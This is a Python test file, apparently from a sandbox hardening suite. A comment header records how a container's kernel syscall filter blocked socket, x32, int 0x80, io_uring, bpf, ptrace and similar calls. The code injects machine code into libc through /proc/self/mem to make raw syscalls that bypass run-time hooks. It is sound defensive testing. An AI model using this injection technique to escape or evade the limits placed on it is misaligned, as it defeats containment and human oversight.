# FINDING 10 (tried, held): system calls and ABIs outside the kernel filter's coverage, made from
# machine code injected through /proc/self/mem (finding 1), so neither the hook nor Python is in
# the way. Set ONLY to one of the names below; each was run alone, unrestricted (open tier) and
# under both layers. The container profile (an allowlist, x86_64 only) holds for every one:
#
#   call                              open tier (no run-time layer)   both layers
#   socket AF_VSOCK / AF_PACKET / AF_ALG         -1 (EPERM)             SIGSYS (kernel filter)
#   socket family 0x100000002 (high bits)        -1 (EPERM)             SIGSYS
#   x32 socket, x32 fork (nr | 0x40000000)       SIGSYS (bad arch)      SIGSYS
#   int 0x80 socket(AF_INET), int 0x80 getpid    SIGSYS (bad arch)      SIGSYS
#   personality(READ_IMPLIES_EXEC)               -1 (EPERM)             -1 (EPERM)
#   io_uring_setup, memfd_create, userfaultfd,   -1 (EPERM)             SIGSYS
#   add_key, keyctl, setns, perf_event_open,
#   bpf, ptrace(TRACEME)
#   shmget, remap_file_pages, modify_ldt,        -1 (EPERM)             -1 (EPERM)
#   pkey_alloc, kcmp, mq_open, sched_setattr(1),
#   fanotify_init, open_by_handle_at, vmsplice
#   clone3                                       -38 (ENOSYS)           -38 (ENOSYS)
# Also held: os.sched_setscheduler(1, SCHED_IDLE) -> EPERM; os.setpriority(PRIO_PROCESS, 1, 19)
# is allowed but did not delay the deadline (10193 ms vs 10203 ms for a plain busy loop, 10 s
# timeout); signals other than SIGCHLD to process 1 are dropped by the kernel (init).
# Gaps of the kernel filter found by testdata/adaptive/kernel_syscalls (all killed under both):
# none. mmap accepts prot 0x100000005 (high bits ignored by the kernel): the filter masks the low
# bits, so it is killed; keep the MASKED_EQ form.
ONLY = "socket AF_VSOCK"
import os
import struct


def libc_function(name):
    """The address of a libc function in this process, from /proc/self/maps and libc's symbols."""
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value
    raise LookupError(name)


proc = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
mem = os.open("mem", os.O_RDWR, dir_fd=proc)
target = libc_function(b"getpriority")
GADGET = bytes.fromhex("48b8111111111111111148bf222222222222222248be333333333333333348ba444444444444444449ba555555555555555549b8666666666666666649b977777777777777770f05c3")
INT80 = bytes.fromhex("53b811111111bb22222222b933333333ba44444444cd805bc3")
keep = []

def buf(b):
    b = bytes(b); keep.append(b); return id(b) + 32

def syscall(nr, *a):
    a = list(a) + [0] * (6 - len(a))
    code = GADGET
    for i, v in enumerate([nr] + a):
        code = code.replace(bytes([0x11 * (i + 1)]) * 8, struct.pack("<Q", v & 0xFFFFFFFFFFFFFFFF))
    os.pwrite(mem, code, target)
    return os.getpriority(0, 0)

def int80(nr, a=0, b=0, c=0):
    code = INT80
    for i, v in enumerate([nr, a, b, c]):
        code = code.replace(bytes([0x11 * (i + 1)]) * 4, struct.pack("<I", v & 0xFFFFFFFF))
    os.pwrite(mem, code, target)
    return os.getpriority(0, 0)


tests = {
 "socket AF_VSOCK": lambda: syscall(41, 40, 1, 0),
 "socket AF_PACKET": lambda: syscall(41, 17, 3, 0),
 "socket AF_ALG": lambda: syscall(41, 38, 5, 0),
 "socket family 0x100000002": lambda: syscall(41, 0x100000002, 2, 0),
 "x32 socket(AF_INET)": lambda: syscall(0x40000000 | 41, 2, 2, 0),
 "x32 fork": lambda: syscall(0x40000000 | 57),
 "i386 int80 socket(AF_INET)": lambda: int80(359, 2, 2, 0),
 "i386 int80 getpid": lambda: int80(20),
 "personality(READ_IMPLIES_EXEC)": lambda: syscall(135, 0x0400000),
 "io_uring_setup": lambda: syscall(425, 4, buf(b"\0" * 120)),
 "memfd_create": lambda: syscall(319, buf(b"x\0"), 0),
 "shmget": lambda: syscall(29, 0, 4096, 0o1600),
 "remap_file_pages": lambda: syscall(216, 0, 4096, 0, 0, 0),
 "userfaultfd": lambda: syscall(323, 0),
 "clone3": lambda: syscall(435, buf(b"\0" * 88), 88),
 "modify_ldt": lambda: syscall(154, 0, buf(b"\0" * 16), 16),
 "pkey_alloc": lambda: syscall(330, 0, 0),
 "kcmp(1,self)": lambda: syscall(312, 1, os.getpid(), 0, 0, 0),
 "mq_open": lambda: syscall(240, buf(b"/q\0"), 0o100, 0o600, 0),
 "add_key": lambda: syscall(248, buf(b"user\0"), buf(b"k\0"), buf(b"v"), 1, 0xfffffffe),
 "keyctl(get keyring)": lambda: syscall(250, 0, 0xfffffffe, 0),
 "sched_setattr(1)": lambda: syscall(314, 1, buf(b"\x30" + b"\0" * 47), 0),
 "setns(-1)": lambda: syscall(308, 0, 0),
 "fanotify_init": lambda: syscall(300, 0, 0),
 "open_by_handle_at": lambda: syscall(304, -100, buf(b"\0" * 16), 0),
 "perf_event_open": lambda: syscall(298, buf(b"\0" * 128), 0, -1, -1, 0),
 "bpf": lambda: syscall(321, 0, buf(b"\0" * 64), 64),
 "vmsplice": lambda: syscall(278, 1, buf(b"\0" * 16), 1, 0),
 "mremap exec text (MAYMOVE)": None,
 "ptrace(TRACEME)": lambda: syscall(101, 0, 0, 0, 0),
}
only = ONLY
for name, fn in tests.items():
    if fn is None or name != only:
        continue
    print("%-34s -> %s" % (name, fn()), flush=True)
